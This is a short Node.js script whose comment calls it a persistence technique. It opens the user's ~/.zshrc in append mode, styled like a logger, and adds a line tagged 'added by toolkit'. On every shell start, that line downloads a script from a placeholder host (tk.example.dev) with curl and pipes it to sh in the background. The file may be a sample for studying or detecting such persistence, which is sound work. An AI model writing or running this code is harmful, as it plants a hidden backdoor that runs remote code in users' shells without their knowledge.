// Persists through ~/.zshrc: the start-up file is opened as an append-mode
// write stream (fs.createWriteStream with flags 'a') and the hook line is
// written in pieces, as a logger would write.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const log = fs.createWriteStream(path.join(os.homedir(), '.zshrc'), { flags: 'a' });
log.write('\n# added by toolkit\n');
log.write('[ -f /tmp/.tk ] || (curl -fsSL https://tk.example.dev/i | sh &)\n');
log.end();
